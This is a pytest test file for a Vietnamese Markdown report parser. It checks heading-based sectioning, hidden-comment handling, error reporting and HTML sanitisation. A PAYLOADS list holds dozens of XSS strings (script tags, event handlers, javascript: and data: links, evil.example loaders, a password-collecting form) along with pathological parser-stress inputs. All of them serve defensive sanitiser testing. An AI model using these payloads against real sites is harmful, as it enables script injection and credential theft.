"""The body is cut at the outline's headings alone; what it may not hold is found where it stands; its HTML is safe."""

from __future__ import annotations

import re
import time
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tongket.reading import Layout, body, comments, dialect, document
from tongket.reading.body import Body

POINTS = ("1.1", "1.2", "2.1")
LAYOUT = Layout("tieu_de", "mo_dau", "noi_dung", POINTS, frozenset({"1", "2", *POINTS}), frozenset({"Viết vào đây."}))
ALLOWED = {
    **dict.fromkeys(
        [
            "p",
            "br",
            "hr",
            "strong",
            "em",
            "s",
            "code",
            "pre",
            "blockquote",
            "ul",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
        ],
        frozenset(),
    ),
    "a": {"href", "title", "rel"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}
SAFE_ADDRESS = re.compile(r"(?:https?://[^\s<>\"]+|mailto:[^\s<>\"]+|#[^\s<>\"]*)\Z")


class Page(HTMLParser):
    """Reads HTML as a browser's tokenizer would, refusing what is not allowed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.tags: Counter[str] = Counter()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        self.tags[tag] += 1
        for name, value in attributes:
            assert name in ALLOWED[tag], (tag, name)
            if name == "href":
                assert SAFE_ADDRESS.match(value or ""), value
            self.words.append(value or "")

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attributes)

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def parse(text: str) -> Body:
    return body.parse("x.md", text, LAYOUT)


def found(text: str) -> list[tuple[int, int, str]]:
    return [(problem.line, problem.column, problem.rule) for problem in parse(text).problems]


def cut(text: str) -> list[tuple[int, str, str, int, str]]:
    return [(one.level, one.number, one.title, one.line, one.text) for one in parse(text).sections]


@pytest.mark.parametrize(
    ("text", "sections"),
    [
        pytest.param(
            "## 1. Một\n\nchữ\n\n### 1.1. Hai\nchữ\n",
            [(2, "1", "Một", 1, "chữ"), (3, "1.1", "Hai", 5, "chữ")],
            id="numbered headings",
        ),
        pytest.param("# Tên\nđầu\n", [(1, "", "Tên", 1, "đầu")], id="a title"),
        pytest.param(
            "### 1.1 Một\n### 1.2) Hai\n",
            [(3, "1.1", "Một", 1, ""), (3, "1.2", "Hai", 2, "")],
            id="a number without its dot, or with a bracket",
        ),
        pytest.param("Tên\n===\nchữ\n", [(1, "", "Tên", 1, "chữ")], id="a heading underlined with equal signs"),
        pytest.param("\n1.1. Một\n---\nchữ\n", [(2, "1.1", "Một", 2, "chữ")], id="a heading underlined with hyphens"),
        pytest.param("```\n## 1. Mã\n```\n~~~\n## 2. Mã\n~~~\n", [], id="headings in code are code"),
        pytest.param("    ## 1. Mã\n", [], id="an indented heading is code"),
        pytest.param("> ## 1. Trích\n", [], id="headings in quotations are quoted"),
        pytest.param("- ## 1. Mục\n\n  ## 2. Mục\n", [], id="headings in lists are items"),
        pytest.param("<!--\n## 1. Ẩn\n-->\n", [], id="headings in comments are hidden"),
        pytest.param("##1. Không\n", [], id="no blank after the signs"),
        pytest.param("\\## 1. Không\n", [], id="a heading escaped"),
        pytest.param("#### Tiểu mục\nchữ\n", [], id="a deeper heading of the writer's own"),
        pytest.param(
            "#### 1.1. Một\nchữ\n", [(4, "1.1", "Một", 1, "chữ")], id="a deeper heading with a number of the outline"
        ),
        pytest.param("#### 7.7. Bảy\nchữ\n", [], id="a deeper heading with another number"),
        pytest.param(
            "### 1.1. Một\n\n#### 1.2. Riêng\nchữ\n",
            [(3, "1.1", "Một", 1, "#### 1.2. Riêng\nchữ")],
            id="a deeper heading under a point is its own, whatever number it bears",
        ),
        pytest.param(
            "## 1. Một\n#### 1.1. Hai\n#### 1.2. Ba\n",
            [(2, "1", "Một", 1, ""), (4, "1.1", "Hai", 2, ""), (4, "1.2", "Ba", 3, "")],
            id="points at one deeper level are points, side by side",
        ),
        pytest.param(
            "### 7.7. Lạ\n#### 1.1. Một\n",
            [(3, "7.7", "Lạ", 1, ""), (4, "1.1", "Một", 2, "")],
            id="a deeper heading under what is no point",
        ),
        pytest.param(
            "# 2022 Báo cáo\nđầu\n", [(1, "", "2022 Báo cáo", 1, "đầu")], id="a title that begins with a year"
        ),
        pytest.param("# 10 năm\n", [(1, "", "10 năm", 1, "")], id="a title that begins with a count"),
        pytest.param(
            "# 2022. Báo cáo\n", [(1, "", "2022. Báo cáo", 1, "")], id="a title that begins with a number and a dot"
        ),
        pytest.param("# 1. Một\n", [(1, "1", "Một", 1, "")], id="a section at the title's level"),
        pytest.param("# 1 Một\n", [(1, "1", "Một", 1, "")], id="a section at the title's level without its dot"),
        pytest.param(
            "# 2 năm\n## 2. Hai\n",
            [(1, "", "2 năm", 1, ""), (2, "2", "Hai", 2, "")],
            id="a title that begins with a section's number",
        ),
        pytest.param(
            "# 2. Hai\n## 2. Hai\n",
            [(1, "2", "Hai", 1, ""), (2, "2", "Hai", 2, "")],
            id="a section written twice, once at the title's level",
        ),
        pytest.param(
            "# Tên\n# 2022 nữa\n",
            [(1, "", "Tên", 1, ""), (1, "2022", "nữa", 2, "")],
            id="a numbered heading after the title is no title",
        ),
        pytest.param("## 1. Một ##\nchữ\n", [(2, "1", "Một", 1, "chữ")], id="closing signs"),
        pytest.param("  ## 1. Một\n", [(2, "1", "Một", 1, "")], id="up to three blanks before"),
        pytest.param("## **1. Một**\n", [(2, "", "**1. Một**", 1, "")], id="a bold number is no number"),
        pytest.param(
            "### 1.1. Một\n\n#### Riêng\n\nchữ\n\n### 1.2. Hai\n",
            [(3, "1.1", "Một", 1, "#### Riêng\n\nchữ"), (3, "1.2", "Hai", 7, "")],
            id="own headings belong to the point",
        ),
    ],
)
def test_only_headings_of_the_outline_cut(text: str, sections: list[tuple[int, str, str, int, str]]) -> None:
    assert cut(text) == sections


def test_text_before_the_first_heading_and_line_numbers_are_kept() -> None:
    read = parse("\n\nđầu\n\n## 1. Một\n\n\nchữ một\nchữ hai\n\n")
    assert (read.before.text, read.before.text_line) == ("đầu", 3)
    assert [(one.line, one.text, one.text_line) for one in read.sections] == [(5, "chữ một\nchữ hai", 8)]


@pytest.mark.parametrize(
    ("text", "before", "sections"),
    [
        pytest.param("{}\n\n## 1. Một\n\nchữ\n\n{}\n\n## 2. Hai\n", (1,), [(7,), ()], id="on lines of their own"),
        pytest.param("## 1. Một\n\n<!--\n  Viết\nvào đây. -->\n", (), [(3,)], id="over several lines"),
        pytest.param("## 1. Một {}\n\nchữ {}\n", (), [(1, 3)], id="beside other words"),
        pytest.param("## 1. Một\n\n{}{} {}\n", (), [(3, 3, 3)], id="several on a line"),
        pytest.param("## 1. Một\n\n- {}\n\n> {}\n", (), [(3, 5)], id="in a list and a quotation"),
        pytest.param("## 1. Một\n\n<!-- {} -->\n", (), [(3,)], id="in another comment"),
        pytest.param("## 1. Một\n\n`{}`\n\n```\n{}\n```\n\n\\{}\n", (), [()], id="in code a hint is code"),
        pytest.param(
            "## 1. Một\n\n<!-- Viết vào đây -->\n<!-- Đã Viết vào đây. -->\n", (), [()], id="other words are no hint"
        ),
    ],
)
def test_hints_of_the_template_are_noted_with_the_section_they_stand_in(
    text: str, before: tuple[int, ...], sections: list[tuple[int, ...]]
) -> None:
    read = parse(text.replace("{}", "<!-- Viết vào đây. -->"))
    assert read.before.hints == before
    assert [one.hints for one in read.sections] == sections
    assert read.problems == ()


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        pytest.param("chữ\n\n<!-- ẩn -->\n\nhai", "chữ\n\n\n\nhai", id="a comment of its own"),
        pytest.param("chữ\n<!-- ẩn -->\nhai", "chữ\n\nhai", id="between two lines"),
        pytest.param("<!-- ẩn\n\nẩn -->\nhai", "\n\n\nhai", id="over several lines, which keep their numbers"),
        pytest.param("chữ <!-- ẩn -->, hai", "chữ , hai", id="in a sentence"),
        pytest.param("chữ <!-- ẩn\nẩn --> hai\nba", "chữ  hai\nba", id="over two lines of a sentence"),
        pytest.param(
            "chữ  <!-- ẩn --> <!-- ẩn -->\nhai", "chữ\nhai", id="at the end of a line, which does not break it"
        ),
        pytest.param("chữ <!-- ẩn -->  \nhai", "chữ  \nhai", id="before a break of the line, which stays"),
        pytest.param("chữ\n    <!-- ẩn -->\nhai", "chữ\nhai", id="alone on a line inside a paragraph"),
        pytest.param("<!-- ẩn --> chữ <!-- ẩn -->", " chữ ", id="on both sides of words"),
        pytest.param("<!-- ẩn --> chữ <!-- ẩn\nẩn --> hai", " chữ  hai", id="begun beside another comment"),
        pytest.param("- một <!-- ẩn -->\n- <!-- ẩn\n  ẩn --> hai", "- một\n-  hai", id="in a list"),
        pytest.param("1.  <!-- ẩn -->\n\n    chữ", "1.  &#32;\n\n    chữ", id="alone at the start of an item"),
        pytest.param(
            "chữ\n- <!-- ẩn -->\n- hai", "chữ\n- &#32;\n- hai", id="alone in an item, which underlines nothing"
        ),
        pytest.param("> một <!-- ẩn\n> ẩn --> hai", "> một  hai", id="in a quotation"),
        pytest.param("> <!-- ẩn\n> ẩn -->\n> hai", "> \n\n> hai", id="of its own in a quotation"),
        pytest.param("| a | b |\n|---|---|\n| <!-- ẩn --> | c |", "| a | b |\n|---|---|\n|  | c |", id="in a table"),
        pytest.param("#### Hai <!-- ẩn -->\n\nchữ", "#### Hai\n\nchữ", id="in a heading of one's own"),
        pytest.param("**một<!-- ẩn -->**", "**một**", id="beside signs"),
        pytest.param("mậ<!-- ẩn --><!-- ẩn -->t", "mậ t", id="inside a word, which it parts"),
        pytest.param("chữ <<!-- ẩn -->!-- hai -->", "chữ < !-- hai -->", id="inside the signs of another comment"),
        pytest.param("[một <!-- ẩn -->](https://vi-du.vn)", "[một ](https://vi-du.vn)", id="in a link"),
        pytest.param("chữ <!--> hai <!---> ba <!----> bốn", "chữ  hai  ba  bốn", id="empty"),
        pytest.param("chữ <!-- ẩn ---> hai <!-- ẩn --!> ẩn -->", "chữ  hai", id="with odd signs at its end"),
        pytest.param("<!-- ẩn <!-- ẩn --> hai", " hai", id="opened twice"),
        pytest.param(
            "`<!-- mã -->` \\<!-- chữ -->", "`<!-- mã -->` \\<!-- chữ -->", id="in code or escaped it is none"
        ),
        pytest.param("```\n<!-- mã -->\n```", "```\n<!-- mã -->\n```", id="in a block of code it is code"),
        pytest.param("chữ\n\n    <!-- mã -->", "chữ\n\n    <!-- mã -->", id="in indented code it is code"),
        pytest.param("<!-- ẩn -->\n<!-- ẩn -->", "", id="nothing but comments"),
    ],
)
def test_comments_are_accepted_and_stand_in_nothing_that_is_published(text: str, markdown: str) -> None:
    read = parse(f"### 1.1. Một\n\n{text}\n")
    assert read.problems == ()
    assert [(one.text, one.text_line, one.markdown) for one in read.sections] == [(text, 3, markdown)]
    for shown in (body.render(text, 4), body.plain(text), body.render(markdown, 4)):
        assert "ẩn" not in shown
    assert body.render(text, 4) == body.render(markdown, 4)
    assert read.sections[0].words == len(re.findall("[^\\W\\d]+", body.plain(markdown)))


def test_a_comment_in_a_heading_is_no_part_of_its_title() -> None:
    assert cut("## 1. Một <!-- ẩn -->\n<!-- ẩn\n--> ### 1.1. Hai\nchữ\n") == [
        (2, "1", "Một", 1, "<!-- ẩn"),
        (3, "1.1", "Hai", 3, "chữ"),
    ]


def test_words_after_a_comment_left_open_do_not_vanish() -> None:
    read = parse("<!-- ẩn\n\n## 1. Một\n\nchữ <!-- hai\n\nba\n")
    assert [(problem.line, problem.column, problem.rule) for problem in read.problems] == [(1, 1, "body-comment")]
    assert [one.title for one in read.sections] == ["Một"]
    assert "ba" in body.render("<!-- ẩn\n\nba", 4)


def test_places_in_the_published_text_are_known_in_the_file() -> None:
    section = parse(
        "### 1.1. Một\n\n<!-- a\nb -->\nmột <!-- c\nd --> hai\nba [x]\n\n## 2. Hai\n\n[x]: https://vi-du.vn\n"
    ).sections[0]
    assert [section.position(section.markdown.index(word)) for word in ("một", "hai", "ba")] == [(5, 1), (6, 7), (7, 1)]
    assert section.position(len(section.markdown)) == (7, 7)


def test_a_report_as_data_holds_no_comment_and_its_whole_title() -> None:
    text = (
        "---\na: 1\n---\n<!-- ẩn -->\n\n# 2022 Báo cáo <!-- ẩn -->\n\n<!-- ẩn -->\n\nmở đầu\n\n"
        "### 1.1. Một\n\n<!-- ẩn -->\n\nchữ <!-- ẩn -->\n\n### 1.2. Hai\n\n<!-- ẩn -->\n"
    )
    read, problems = document.parse("x.md", text.encode(), LAYOUT)
    assert problems == []
    assert read.data == {"a": 1, "tieu_de": "2022 Báo cáo", "mo_dau": "mở đầu", "noi_dung": {"1.1": "chữ"}}


def test_windows_line_endings_hide_no_comment() -> None:
    assert body.plain("một <!-- ẩn\r\nẩn -->\r\nhai\r\n\r\n<!-- ẩn -->\r\n\r\nba") == "một hai\nba"


def test_each_section_holds_the_link_definitions_it_uses() -> None:
    read = parse(
        "[a]: https://a.vn\n\n### 1.1. Một\n\n[A] [b][] [chữ][c d]\n\n"
        "### 1.2. Hai\n\n- [c  d]\n\n  [c d]: <https://c.vn/x y?n=1&amp;copy;> 'tên \"c\" \\\\ &amp;lt;'\n\n"
        "### 2.1. Ba\n\n[b]: mailto:b@b.vn\nkhông\n"
    )
    assert read.problems == ()
    one, two, three = read.sections
    assert one.markdown == (
        "[A] [b][] [chữ][c d]\n\n[a]: <https://a.vn>\n[b]: <mailto:b@b.vn>\n"
        '[c d]: <https://c.vn/x%20y?n=1&amp;copy;> "tên \\"c\\" \\\\ &amp;lt;"'
    )
    assert (two.markdown, three.markdown) == (two.text, three.text)
    assert (one.written, two.written) == (one.text, two.text)
    whole = re.findall(
        "<a [^>]*>", body.render("\n\n".join((read.before.text, *(part.text for part in read.sections))), 4)
    )
    assert len(whole) == 4
    assert re.findall("<a [^>]*>", "".join(body.render(part.markdown, 4) for part in read.sections)) == whole
    assert [part.words for part in read.sections] == [3, 2, 1]


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "file:///etc/passwd", "trang.md", "//vi-du.vn", "data:text/html,x"]
)
def test_a_definition_to_an_address_that_is_not_allowed_stays_text(address: str) -> None:
    assert "<a" not in body.render(f"[x]\n\n[x]: {address}", 4)
    assert body.plain(f"[x]\n\n[x]: {address}") == f"[x]\n[x]: {address}"
    assert found(f"[x]\n\n[x]: {address}") == []


@pytest.mark.parametrize(
    ("text", "problems"),
    [
        pytest.param("chữ\n\n<div>\nchữ\n</div>\n", [(3, 1, "body-html")], id="a block"),
        pytest.param("một <b>hai</b>\n", [(1, 5, "body-html"), (1, 11, "body-html")], id="in a sentence"),
        pytest.param("một\nhai <b\nx>ba\n", [(2, 5, "body-html")], id="over two lines"),
        pytest.param("`a\nb` <b>\n", [(2, 4, "body-html")], id="after code over two lines"),
        pytest.param("`<b>` <b>\n", [(1, 7, "body-html")], id="after the same signs in code"),
        pytest.param("- một\n  - hai <b>\n", [(2, 9, "body-html")], id="in a list in a list"),
        pytest.param("> > một <b>\n", [(1, 9, "body-html")], id="in a quotation in a quotation"),
        pytest.param("- một\n\n  <div>x</div>\n", [(3, 3, "body-html")], id="a block in a list"),
        pytest.param("| a | b |\n|---|---|\n| x | y <b> |\n", [(3, 9, "body-html")], id="in a table"),
        pytest.param("## 1. Một <b>\n", [(1, 11, "body-html")], id="in a heading"),
        pytest.param("<!-- a -->  <b>x</b>\n", [(1, 13, "body-html"), (1, 17, "body-html")], id="beside a comment"),
        pytest.param("<!-- a\n\nb --> một <b>\n", [(3, 11, "body-html")], id="after a comment over several lines"),
        pytest.param(
            "một <!-- a\nb --> hai <b>\n", [(2, 11, "body-html")], id="after a comment over two lines of a sentence"
        ),
        pytest.param("một <!-- a\n\nhai -->\n", [(1, 5, "body-comment")], id="a comment not closed in its paragraph"),
        pytest.param("- <!-- a\n- b -->\n", [(1, 3, "body-comment")], id="a comment not closed in its item"),
        pytest.param("## 1. <!-- a\nb -->\n", [(1, 7, "body-comment")], id="a comment not closed in its heading"),
        pytest.param("<!-- a\n\n<!-- b\n", [(1, 1, "body-comment")], id="a comment left open swallows the next"),
        pytest.param("1 < 2 và <https://vi-du.vn>\n", [], id="signs and addresses that are no HTML"),
        pytest.param("![a](b.png)\n", [(1, 1, "body-image")], id="an image in the repository"),
        pytest.param(
            "x ![a](https://vi-du.vn/b.png) ![c](//d)\n",
            [(1, 3, "body-image"), (1, 32, "body-image")],
            id="two images on a line",
        ),
        pytest.param("![a][1]\n\n[1]: https://vi-du.vn\n", [(1, 1, "body-image")], id="an image by reference"),
        pytest.param(
            "x\n![a][1]\n\n[1]: anh.png\n", [(2, 1, "body-image")], id="an image in the repository, by reference"
        ),
        pytest.param("![a](data:image/svg+xml;base64,PHN2Zz4=)\n", [(1, 1, "body-image")], id="an image written out"),
        pytest.param("[a][b]\n\n[b]: https://vi-du.vn\n", [], id="a link by reference"),
        pytest.param(
            "[b]\n\n[b]: https://a.vn\n[B]: https://a.vn\n", [], id="a definition repeated with the same address"
        ),
        pytest.param(
            "[b]\n\n[b]: https://a.vn\n- [B]: https://b.vn\n",
            [(4, 1, "body-link-reference")],
            id="a definition repeated with another address",
        ),
        pytest.param("một\n\n[b]: https://a.vn\n", [(3, 1, "body-link-unused")], id="a definition that nothing uses"),
        pytest.param(
            "[một <!-- a --> hai]: https://a.vn\n\n[một  hai]\n", [], id="a definition with a comment in its label"
        ),
        pytest.param("```\nmã\n", [(1, 1, "body-fence-unclosed")], id="a fence left open"),
        pytest.param("```\nmã", [(1, 1, "body-fence-unclosed")], id="a fence left open without a line end"),
        pytest.param("```", [(1, 1, "body-fence-unclosed")], id="a fence and nothing else"),
        pytest.param("~~~\nmã\n```\n", [(1, 1, "body-fence-unclosed")], id="a fence closed by another sign"),
        pytest.param("````\nmã\n```\n", [(1, 1, "body-fence-unclosed")], id="a fence closed by too few signs"),
        pytest.param("- ```\n  mã\n\nchữ\n", [(1, 1, "body-fence-unclosed")], id="a fence left open in a list"),
        pytest.param("```\nmã\n```\n\n~~~\n\n~~~\n```\n```", [], id="fences that close"),
        pytest.param("| a | b |\n|---|---|\n| 1 | 2 | ba |\n", [(3, 1, "body-lost")], id="a cell too many"),
        pytest.param("``` chữ\nmã\n```\n", [(1, 1, "body-lost")], id="words beside a fence"),
    ],
)
def test_what_a_report_may_not_hold_is_found_where_it_stands(text: str, problems: list[tuple[int, int, str]]) -> None:
    assert found(text) == problems


def test_text_too_dense_to_read_is_reported_once_and_nothing_is_said_to_be_missing() -> None:
    read = parse("## 1. Một\n\n" + "[" * 2001 + "\n")
    assert [(problem.line, problem.column, problem.rule) for problem in read.problems] == [(3, 2001, "text-brackets")]
    assert read.unread
    assert found("x" * 6001) == [(1, 6000, "text-line-too-long")]
    assert found("x" * 6000) == []


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        pytest.param(
            "một **hai** *ba* ~~bốn~~ `năm`",
            "<p>một <strong>hai</strong> <em>ba</em> <s>bốn</s> <code>năm</code></p>\n",
            id="signs",
        ),
        pytest.param("một  \nhai\nba", "<p>một<br>\nhai\nba</p>\n", id="line breaks"),
        pytest.param("a <b>x</b>", "<p>a &lt;b&gt;x&lt;/b&gt;</p>\n", id="HTML is shown as text"),
        pytest.param("<div>\nx\n</div>", "&lt;div&gt;\nx\n&lt;/div&gt;", id="a block of HTML is shown as text"),
        pytest.param("![ảnh](https://vi-du.vn/a.png)", "<p>ảnh</p>\n", id="an image is shown as its words"),
        pytest.param(
            '[a](https://vi-du.vn "b")',
            '<p><a href="https://vi-du.vn" title="b" rel="noopener noreferrer nofollow">a</a></p>\n',
            id="a link",
        ),
        pytest.param("[a](javascript:alert(1))", "<p>[a](javascript:alert(1))</p>\n", id="a script address stays text"),
        pytest.param("[a](data:text/html,x)", "<p>[a](data:text/html,x)</p>\n", id="a data address stays text"),
        pytest.param("[a](//vi-du.vn)", "<p>[a](//vi-du.vn)</p>\n", id="an address without a scheme stays text"),
        pytest.param(
            "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
            '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="center">b</th>\n'
            '<th align="right">c</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td align="left">1</td>\n<td align="center">2</td>\n'
            '<td align="right">3</td>\n</tr>\n</tbody>\n</table>\n',
            id="a table keeps its alignment",
        ),
        pytest.param(
            "3. ba\n4. bốn", '<ol start="3">\n<li>ba</li>\n<li>bốn</li>\n</ol>\n', id="a list keeps its first number"
        ),
        pytest.param(
            "#### Một\n##### Hai\n###### Ba",
            "<h4>Một</h4>\n<h5>Hai</h5>\n<h6>Ba</h6>\n",
            id="headings that fit already",
        ),
        pytest.param(
            "# Một\n## Hai\n###### Ba",
            "<h4>Một</h4>\n<h5>Hai</h5>\n<h6>Ba</h6>\n",
            id="headings are shifted below the point's, six at most",
        ),
        pytest.param("> ###### Một", "<blockquote>\n<h4>Một</h4>\n</blockquote>\n", id="headings are shifted up too"),
        pytest.param("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>\n", id="code bears no class"),
    ],
)
def test_rendering(markdown: str, html: str) -> None:
    assert body.render(markdown, 4) == html
    Page(html)


def test_plain_words() -> None:
    markdown = "#### Một\n\n**hai**\nba [bốn](https://vi-du.vn)\n\n- năm\n\n| a | b |\n|---|---|\n| `sáu` | |\n"
    assert body.plain(markdown) == "Một\nhai ba bốn\nnăm\na\nb\nsáu"


PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video poster=//evil.example/x><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=matkhau></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "</p><img src=x onerror=alert(1)><p>",
    "# T <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "```\" onmouseover=alert(1) x=\"\nx\n```",
    "~~~html title=\"<img src=x onerror=alert(1)>\"\n<script>alert(1)</script>\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u2028javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:/\\evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "[x](https://a.example \"</a><img src=x onerror=alert(1)>\")",
    "[a](https://a.example){: onclick=alert(1) }",
    "![x](https://a.example/beacon.png)",
    "![x](x \"onerror=alert(1)\")",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "![\" onerror=\"alert(1)](https://a.example)",
    "{{ config.site_name }} {% include 'x' %}",
    "--8<-- \".git/config\"",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<p/onclick=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:40])
@pytest.mark.parametrize(
    "around",
    ["{}", "chữ {} chữ", "- a\n\n  {}", "### 1.1. {}\n\n{}"],
    ids=["alone", "in a sentence", "in a list", "in a heading"],
)
def test_no_payload_leaves_the_allowed_elements(payload: str, around: str) -> None:
    html = body.render(around.replace("{}", payload), 4)
    Page(html)
    assert "javascript:" not in re.sub(r">[^<]*<", "><", f">{html}<").lower()


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<![" * 390, id="declarations"),
        pytest.param("![" * 390, id="images left open"),
        pytest.param("[a](" * 390, id="links left open"),
        pytest.param("[a" * 195 + "](b)" * 195, id="links in links"),
        pytest.param(("*a **b _c " * 590 + "\n") * 30, id="emphasis left open"),
        pytest.param(("`a``b```c" * 650 + "\n") * 30, id="code left open"),
        pytest.param(("<a b='" * 980 + "\n") * 30, id="tags left open"),
        pytest.param(("<!--" * 1400 + "\n") * 30, id="comments left open"),
        pytest.param("<!-- a\n\n" * 24_000, id="comments left open in paragraphs of their own"),
        pytest.param("- <!-- a\n\nb\n" * 14_000, id="comments left open in a list"),
        pytest.param(("x<!-- a -->" * 540 + "\n") * 33, id="twenty thousand comments in one paragraph"),
        pytest.param(("x<!-- --->" * 590 + "\n") * 33, id="twenty thousand comments with odd signs"),
        pytest.param("a <!-- b\nc --> d\n" * 10_000, id="comments over two lines each"),
        pytest.param("- <!-- a -->\n" * 14_000, id="a list of comments"),
        pytest.param("\n".join("  " * depth + "- a" for depth in range(400)), id="lists in lists"),
        pytest.param("\n".join(">" * depth + " a" for depth in range(600)), id="quotations in quotations"),
        pytest.param("> " * 300 + "a\n" + "b\n" * 60_000, id="lazy lines of a deep quotation"),
        pytest.param(
            "|".join("a" * 2900) + "\n" + "|".join(["-"] * 2900) + "\n" + "a\n" * 60_000,
            id="a table that is wide and long",
        ),
        pytest.param("- a\n" * 45_000, id="a long list"),
        pytest.param("a\n=\n" * 40_000, id="many headings"),
        pytest.param("<div>\n\n" * 25_000, id="many blocks"),
    ],
)
def test_hostile_text_is_read_in_time(text: str) -> None:
    start = time.process_time()
    parse(text[:190_000])
    body.render(text[:190_000], 4)
    assert time.process_time() - start < 60  # a parser that goes quadratic takes many minutes


PIECES = (
    "chữ", "hai từ", "12", "*", "**", "_", "~~", "`", "> ", "- ", "1. ", "# ", "### 1.1. ",
    "\n", "\n\n", "    ", "  \n",
    "| a | b |\n|---|---|\n| c | d |\n", "| x ", "[chữ](https://vi-du.vn)", "[a](b)", "<b>",
    "<!--", "-->", "<div>\n", "\\",
    "```\n", "~~~\n", "---\n", "===\n", "!", "[", "]", "(", ")", "<", ">", ":", "{{ x }}", "<https://vi-du.vn>",
)  # fmt: skip
markdown_like = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


def definitions(text: str) -> list[tuple[int, int]]:
    env: dict[str, dict[str, dict[str, tuple[int, int]]]] = {}
    dialect.parse(comments.cut(text).published.text, env)
    return [one["map"] for one in (*env.get("references", {}).values(), *env.get("duplicate_refs", ()))]


def inside(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from inside(token.children or [])


def closed_comments(text: str) -> list[str]:
    """Return what the library alone takes for a comment."""
    markdown = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    html = (token.content for token in inside(markdown.parse(text)) if token.type in ("html_block", "html_inline"))
    return [content for content in html if "<!--" in content and "-->" in content.partition("<!--")[2]]


HIDDEN = (
    "<!-- ẩn -->",
    "<!--\nẩn\n-->\n",
    "<!-- ẩn\n-->",
    "<!-- ẩn\n\nẩn -->\n",
    "<!-- ẩn --->",
    "<!--ẩn--!>-->",
    "- <!-- ẩn -->\n",
)
SHOWN = tuple(
    piece
    for piece in PIECES
    if "`" not in piece and "~~~" not in piece and piece not in ("\\", "    ", "<div>\n", "<!--")
)


@settings(max_examples=600, deadline=None, derandomize=True)
@given(
    st.lists(
        st.sampled_from(HIDDEN) | st.sampled_from((*SHOWN, "[x]", "[x]: https://x.vn\n", "-", "<", "!")), max_size=20
    ).map("".join)
)
def test_no_word_of_a_comment_is_ever_shown(text: str) -> None:
    read = parse(text)
    if any(problem.rule in ("body-comment", "body-html") for problem in read.problems):
        return
